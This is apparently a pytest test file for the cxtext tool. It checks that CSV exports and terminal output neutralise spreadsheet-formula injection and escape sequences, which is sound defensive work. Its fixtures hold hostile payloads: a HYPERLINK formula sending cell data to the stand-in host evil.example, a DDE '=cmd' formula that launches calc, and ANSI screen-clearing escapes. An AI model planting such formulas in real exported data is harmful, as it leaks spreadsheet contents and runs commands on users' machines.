"""Customer text cannot run as a spreadsheet formula or a terminal escape sequence in cxtext's outputs."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from cxtext import plugins
from cxtext.cli import cli
from cxtext.records import Record
from cxtext.store import Store
from cxtext.testing import load_only

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
ESCAPES = "North\x1b[2J\x1b]0;PWNED\x07"


@pytest.fixture(autouse=True)
def output_plugins(monkeypatch):
    monkeypatch.setenv("COLUMNS", "300")
    load_only(monkeypatch, "exporters", "kpis")
    yield
    plugins.get_plugin_manager.cache_clear()


@pytest.fixture
def db(tmp_path):
    """A store written directly (no ingest cleaning), as a hostile or older store could be."""
    path = tmp_path / "cx.db"
    records = [
        Record(source_kind="survey", text=HYPERLINK, dataset="d", source_id="1", segments={"region": CMD},
               scores={"nps": 9}),
        Record(source_kind="survey", text="-2+3 is what I paid", dataset="d", source_id="2",
               segments={"region": ESCAPES}, scores={"nps": 3}),
        Record(source_kind="survey", text="@SUM(A1:A9)", dataset="d", source_id="3", segments={"region": "+1"},
               scores={"nps": 10}),
    ]
    with Store(path) as store:
        store.ingest(records, path="x", source="survey", dataset="d", file_sha256="0")
    return path


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def formulas(values: list[str]) -> list[str]:
    return [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_record_csv_export_escapes_formulas(db, tmp_path):
    out = tmp_path / "records.csv"
    result = CliRunner().invoke(cli, ["export", "--db", str(db), "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    values = cells(out.read_text(encoding="utf-8-sig"))
    assert formulas(values) == []
    assert "'" + HYPERLINK in values and "'" + CMD in values and "'@SUM(A1:A9)" in values


def test_record_csv_export_opt_out_writes_cells_as_they_are(db, tmp_path):
    out = tmp_path / "records.csv"
    result = CliRunner().invoke(cli, ["export", "--db", str(db), "--format", "csv", "--out", str(out),
                                      "--no-escape-formulas"])
    assert result.exit_code == 0, result.output
    assert HYPERLINK in cells(out.read_text(encoding="utf-8-sig"))


def test_kpis_csv_escapes_formulas(db, tmp_path):
    result = CliRunner().invoke(cli, ["kpis", "--db", str(db), "--by", "region", "--metric", "nps",
                                      "--format", "csv"])
    assert result.exit_code == 0, result.output
    values = cells(result.stdout)
    assert "'" + CMD in values and "'+1" in values
    assert formulas(values) == [] or all(v.lstrip("-").replace(".", "").isdigit() for v in formulas(values))


def test_kpis_csv_export_format_escapes_formulas(db, tmp_path):
    out = tmp_path / "kpis.csv"
    result = CliRunner().invoke(cli, ["export", "--db", str(db), "--format", "kpis-csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert CMD not in cells(out.read_text(encoding="utf-8-sig"))


def test_kpis_table_strips_terminal_escapes(db):
    result = CliRunner().invoke(cli, ["kpis", "--db", str(db), "--by", "region", "--metric", "nps"])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "North" in result.stdout


def test_ingest_summary_strips_terminal_escapes(tmp_path, monkeypatch):
    load_only(monkeypatch, "survey")
    path = tmp_path / "bad.csv"
    path.write_text("Response ID,NPS,Comment\n1,11\x1b[2J,Fine\n")
    result = CliRunner().invoke(cli, ["ingest", str(path), "--db", str(tmp_path / "cx.db")])
    assert result.exit_code == 0, result.output
    assert "issue:" in result.stdout and "\x1b" not in result.stdout
